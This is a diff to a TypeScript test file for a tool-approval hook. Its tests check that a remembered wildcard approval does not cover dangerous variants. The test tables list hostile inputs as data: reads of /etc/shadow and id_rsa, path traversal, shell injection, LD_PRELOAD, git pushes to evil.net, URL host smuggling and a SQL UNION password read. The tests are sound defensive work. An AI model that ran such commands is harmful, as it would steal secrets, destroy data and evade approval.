@@ -1,28 +1,27 @@
 import { BeforeToolCall, createHooks, type HooksError, requireApproval } from '@hooks/core';
 import { callTool } from '@hooks/core/tool-call';
 import { expect, it } from 'vitest';
-import { rememberApprovals } from '../../src/approvals/index.ts';
+import { type InputPattern, rememberApprovals } from '../../src/approvals/index.ts';
 import { memoryStore } from '../../src/index.ts';
 
 /** Approves a call for good with a pattern. Resolves to what went wrong, and to a function that says whether another one is asked about. */
-async function remember(approved: object, matching?: Record<string, string>) {
+async function remember(approved: object, matching?: InputPattern) {
   const errors: HooksError[] = [];
   const hooks = createHooks({ onError: (error) => void errors.push(error) });
   let asked = 0;
-  hooks.use(rememberApprovals({ store: memoryStore() }));
+  const remembered = rememberApprovals({ store: memoryStore() });
+  hooks.use(remembered);
   hooks.on(BeforeToolCall, () => requireApproval('It is yours.'));
   const call = (input: object) =>
     callTool(
       hooks,
-      { session: hooks.session(), toolName: 'tool', input, principal: { id: 'ada' } },
+      { session: hooks.session(), toolName: 'tool', callId: 'c1', input, principal: { id: 'ada' } },
       () => 'ran',
       {
         approval: () => {
           asked++;
-          return {
-            decision: 'allow',
-            ...(asked === 1 && { remember: 'always', ...(matching && { matching }) }),
-          };
+          if (asked === 1) remembered.remember('c1', { remember: 'always', ...(matching && { matching }) });
+          return { decision: 'allow' };
         },
       },
     );
@@ -37,22 +36,32 @@ async function remember(approved: object, matching?: Record<string, string>) {
   };
 }
 
+/** The argument that a text is for. */
+function argumentOf(text: string): 'command' | 'url' | 'path' {
+  if (/^https?:/.test(text)) return 'url';
+  return text.includes(' ') ? 'command' : 'path';
+}
+
 it.each<readonly [string, string, string]>([
   ['npm run *', 'npm run build', 'npm run test:e2e'],
+  ['npm run *', 'npm run build', 'npm run lint'],
   ['cat src/*', 'cat src/a.ts', 'cat src/b/c.d.ts'],
   ['cat src/*.ts', 'cat src/a.ts', 'cat src/b/c.ts'],
+  ['cd web && npm run *', 'cd web && npm run a', 'cd web && npm run b'],
+  ['grep -n "a b" src/*', 'grep -n "a b" src/x', 'grep -n "a b" src/y'],
+  ['rm -rf build/*', 'rm -rf build/x', 'rm -rf build/y/z'],
+  ['tool --file=*', 'tool --file=a', 'tool --file=b'],
   ['git log --since * --oneline', 'git log --since yesterday --oneline', 'git log --since today --oneline'],
   ['src/*', 'src/a', 'src/b/c'],
   ['https://api.example.com/users/*', 'https://api.example.com/users/1', 'https://api.example.com/users/2'],
-  [
-    'SELECT name FROM orders WHERE id = *',
-    'SELECT name FROM orders WHERE id = 1',
-    'SELECT name FROM orders WHERE id = 2',
-  ],
-])('a `*` in %s is a word', async (text, approved, other) => {
-  const { isAskedAbout, errors } = await remember({ text: approved }, { text });
+  ['https://a.example/u/*/x?y=1', 'https://a.example/u/1/x?y=1', 'https://a.example/u/2/x?y=1'],
+  ['curl https://a.example/u/*', 'curl https://a.example/u/1', 'curl https://a.example/u/2'],
+])('a `*` in %s, given for %s, covers %s', async (text, approved, other) => {
+  const name = argumentOf(text);
+  const { isAskedAbout, errors } = await remember({ [name]: approved }, { [name]: text });
   expect(errors).toEqual([]);
-  expect(await isAskedAbout({ text: other })).toBe(false);
+  expect(await isAskedAbout({ [name]: approved })).toBe(false);
+  expect(await isAskedAbout({ [name]: other })).toBe(false);
 });
 
 it.each<readonly [string, string, string]>([
@@ -64,53 +73,124 @@ it.each<readonly [string, string, string]>([
   ['cat src/*', 'cat src/a', 'cat src/{a,../b}'],
   ['cat src/*', 'cat src/a', 'cat src/'],
   ['cat src/*', 'cat src/a', 'cat src//etc/passwd'],
+  ['cat src/*', 'cat src/a', "cat 'src/a'"],
   ['cat *', 'cat a', 'cat /etc/shadow'],
   ['cat *', 'cat a', 'cat ~root/x'],
   ['cat *', 'cat a', 'cat *'],
+  ['cat *', 'cat a', 'cat id_rsa'],
   ['rm -rf build/*', 'rm -rf build/x', 'rm -rf build/x ~'],
+  ['rm -rf build/*', 'rm -rf build/x', 'rm -rf  build/y'],
   ['rm *', 'rm a', 'rm -rf'],
-  ['echo *', 'echo a', 'echo $HOME'],
-  ['echo *', 'echo a', 'echo `id`'],
-  ['echo *', 'echo a', 'echo a>b'],
-  ['echo *', 'echo a', 'echo "a b"'],
-  ['echo *', 'echo a', 'echo a\tb'],
-  ['echo *', 'echo a', 'echo a\u2028b'],
-  ['echo *', 'echo a', 'echo a\u0000b'],
+  ['cat *', 'cat a', 'cat $HOME'],
+  ['cat *', 'cat a', 'cat `id`'],
+  ['cat *', 'cat a', 'cat a>b'],
+  ['cat *', 'cat a', 'cat "a b"'],
+  ['cat *', 'cat a', 'cat a\tb'],
+  ['cat *', 'cat a', 'cat a\u2028b'],
+  ['cat *', 'cat a', 'cat a\u0000b'],
   ['npm test *', 'npm test a', 'npm test a; ls'],
+  ['npm test *', 'npm test a', 'npm test a\nls'],
+  ['npm test *', 'npm test a', 'LD_PRELOAD=./evil.so npm test a'],
+  ['npm test *', 'npm test a', '(npm test a)'],
   ['git push *', 'git push origin', 'git push +main'],
   ['git push *', 'git push origin', 'git push :main'],
-  ['env *', 'env x', 'env LD_PRELOAD=./evil.so'],
+  ['git push *', 'git push origin', 'git push --force'],
+  ['git push *', 'git push origin', 'git push evil.net:loot.git'],
+  ['git clone *', 'git clone repo', 'git clone evil:x'],
   ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/../x'],
   ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/%2e%2e/x'],
   ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/a?b=c'],
+  ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/a/b'],
+  ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/a#b'],
   ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com@evil.net/'],
   ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com/a@evil'],
+  ['https://api.example.com/*', 'https://api.example.com/a', 'http://api.example.com/a'],
+  ['https://api.example.com/*', 'https://api.example.com/a', 'https://api.example.com:8080/a'],
   ['SELECT * FROM orders', 'SELECT * FROM orders', 'SELECT 1 FROM users UNION SELECT password FROM orders'],
   ['SELECT * FROM orders', 'SELECT * FROM orders', 'SELECT password FROM orders'],
   ['ls *', 'ls *', 'ls a'],
-  ['api.example.com*', 'api.example.com2', 'api.example.com.evil.net'],
+  ['src/*', 'src/a', 'src/../a'],
+  ['src/*', 'src/a', 'src/a b'],
 ])('a `*` in %s, given for %s, does not cover %j', async (text, approved, other) => {
-  const { isAskedAbout, errors } = await remember({ text: approved }, { text });
+  const name = argumentOf(text);
+  const { isAskedAbout, errors } = await remember({ [name]: approved }, { [name]: text });
   expect(errors).toEqual([]);
-  expect(await isAskedAbout({ text: approved })).toBe(false);
-  expect(await isAskedAbout({ text: other })).toBe(true);
+  expect(await isAskedAbout({ [name]: approved })).toBe(false);
+  expect(await isAskedAbout({ [name]: other })).toBe(true);
 });
 
-it.each<readonly [string, string, string]>([
-  ['*npm test', 'xnpm test', 'may not stand for a program'],
-  ['* test', 'npm test', 'may not stand for a program'],
-  ['cd a && *', 'cd a && ls', 'may not stand for a program'],
-  ['A=1 * x', 'A=1 ls x', 'may not stand for a program'],
-  ['sh -c "* x"', 'sh -c "ls x"', 'does not match|may not stand for a program'],
-  ['https://api.example.com*', 'https://api.example.comx', 'host of a URL'],
-  ['curl https://*/a', 'curl https://b/a', 'host of a URL'],
-  ['cp *-*', 'cp a-b', 'one `\\*`'],
-  ['SELECT * FROM *', 'SELECT * FROM orders', 'has a `\\*` of its own'],
-  ['npm run *', 'npm install', 'does not match the pattern'],
-])('the pattern %s for %s is refused', async (text, approved, message) => {
-  const { isAskedAbout, errors } = await remember({ text: approved }, { text });
+it.each<readonly [name: string, pattern: string, approved: string, message: string]>([
+  ['command', '*npm test', 'xnpm test', 'may not stand for a program'],
+  ['command', '* test', 'npm test', 'may not stand for a program'],
+  ['command', 'cd a && *', 'cd a && ls', 'may not stand for a program'],
+  ['command', 'A=1 * x', 'A=1 ls x', 'may not stand for a program'],
+  ['command', 'A=* ls x', 'A=1 ls x', 'not in an assignment'],
+  ['command', 'echo a > *', 'echo a > b', 'not in an assignment, a redirection'],
+  ['command', 'cat <<E\n*\nE', 'cat <<E\nx\nE', 'a text'],
+  ['command', 'sh -c "* x"', 'sh -c "ls x"', 'beside quotes'],
+  ['command', 'python -c "import *"', 'python -c "import os"', 'beside quotes'],
+  ['command', 'echo $(cat *)', 'echo $(cat a)', 'what a shell expands'],
+  ['command', 'sh -c *', 'sh -c ls', 'behind -c may be run'],
+  ['command', 'env *', 'env ls', 'what the command does depends'],
+  ['command', 'sudo *', 'sudo ls', 'what the command does depends'],
+  ['command', 'find . -exec * {} +', 'find . -exec wc {} +', 'behind -exec may be run'],
+  ['command', 'ls -*', 'ls -l', 'may not stand for an option'],
+  ['command', 'scp a evil:*', 'scp a evil:b', 'behind a host'],
+  ['command', 'for a in *; do ls; done', 'for a in b; do ls; done', 'no list of simple commands'],
+  ['command', 'ssh host *', 'ssh host uptime', 'machine or code'],
+  ['command', 'curl *', 'curl example.com/a', 'machine or code'],
+  ['command', 'nc -w 1 *', 'nc -w 1 a', 'machine or code'],
+  ['command', 'sed -n * f', 'sed -n p f', 'machine or code'],
+  ['command', 'node *', 'node a.js', 'machine or code'],
+  ['command', 'psql -c *', 'psql -c x', 'behind -c may be run'],
+  ['command', 'git --exec-path=* log', 'git --exec-path=a log', 'may be run'],
+  ['command', 'tar --to-command=* -xf a', 'tar --to-command=cat -xf a', 'what the command does depends'],
+  ['command', 'git *', 'git status', 'subcommand'],
+  ['command', 'git -C a *', 'git -C a status', 'subcommand'],
+  ['command', 'docker * c', 'docker stop c', 'subcommand'],
+  ['command', 'docker compose *', 'docker compose ps', 'subcommand'],
+  ['command', 'aws s3 *', 'aws s3 ls', 'subcommand'],
+  ['command', 'mywrapper *', 'mywrapper ls', 'subcommand'],
+  ['command', 'timeout 5 git *', 'timeout 5 git status', 'what the command does depends'],
+  ['command', 'busybox *', 'busybox ls', 'what the command does depends'],
+  ['command', 'rm -rf /*', 'rm -rf /x', 'in the root'],
+  ['command', 'cat ../*', 'cat ../a', 'above the folder'],
+  ['command', 'curl https://*/a', 'curl https://b/a', 'not for a part of the host'],
+  ['command', 'cp *-*', 'cp a-b', 'one `\\*`'],
+  ['command', 'SELECT * FROM *', 'SELECT * FROM orders', 'has a `\\*` of its own'],
+  [
+    'command',
+    'DELETE FROM orders WHERE id = *',
+    'DELETE FROM orders WHERE id = 1',
+    'only in a shell command',
+  ],
+  ['command', 'npm run *', 'npm install', 'does not match the call'],
+  ['query', 'DELETE FROM orders WHERE id = *', 'DELETE FROM orders WHERE id = 1', 'only in a shell command'],
+  ['text', 'Dear *, hello', 'Dear Ada, hello', 'only in a shell command'],
+  ['url', 'https://api.example.com*', 'https://api.example.comx', 'not for a part of the host'],
+  ['url', 'https://a.example/*-x', 'https://a.example/1-x', 'a whole segment'],
+  ['url', 'https://a.example/?id=*', 'https://a.example/?id=1', 'or the query'],
+  ['path', 'src/*/*', 'src/a/b', 'one `\\*`'],
+])('as the %s, the pattern %j for %j is refused', async (name, text, approved, message) => {
+  const { isAskedAbout, errors } = await remember({ [name]: approved }, { [name]: text });
   expect(errors).toMatchObject([{ message: expect.stringMatching(message) }]);
-  expect(await isAskedAbout({ text: approved })).toBe(true);
+  expect(await isAskedAbout({ [name]: approved })).toBe(true);
+});
+
+it('a list covers its values, with their types, and no others', async () => {
+  const { isAskedAbout } = await remember({ env: 'dev', port: 80 }, { env: ['dev', 'test'], port: [80, 81] });
+  expect(await isAskedAbout({ env: 'test', port: 81 })).toBe(false);
+  expect(await isAskedAbout({ env: 'prod', port: 81 })).toBe(true);
+  expect(await isAskedAbout({ env: 'test', port: '81' })).toBe(true);
+  const missing = await remember({ env: 'dev' }, { env: ['test', '*'] });
+  expect(missing.errors).toMatchObject([{ message: expect.stringContaining('not in the list') }]);
+});
+
+it('a value that a pattern names has the type that it had', async () => {
+  const { isAskedAbout } = await remember({ id: 5, to: '["a"]' }, { id: '5', to: '["a"]' });
+  expect(await isAskedAbout({ id: 5, to: '["a"]' })).toBe(false);
+  expect(await isAskedAbout({ id: '5', to: '["a"]' })).toBe(true);
+  expect(await isAskedAbout({ id: 5, to: ['a'] })).toBe(true);
 });
 
 it('a yes without a pattern covers that input alone, whatever its form', async () => {
@@ -135,8 +215,8 @@ it('values that are not text match as they are, or whatever they are', async () 
 });
 
 it('a long text is compared in no time', async () => {
-  const { isAskedAbout } = await remember({ text: 'echo a' }, { text: 'echo *' });
+  const { isAskedAbout } = await remember({ command: 'cat a' }, { command: 'cat *' });
   const began = performance.now();
-  expect(await isAskedAbout({ text: `echo ${'a.'.repeat(500_000)}` })).toBe(true);
+  expect(await isAskedAbout({ command: `cat ${'a.'.repeat(500_000)}` })).toBe(true);
   expect(performance.now() - began).toBeLessThan(5_000);
 });
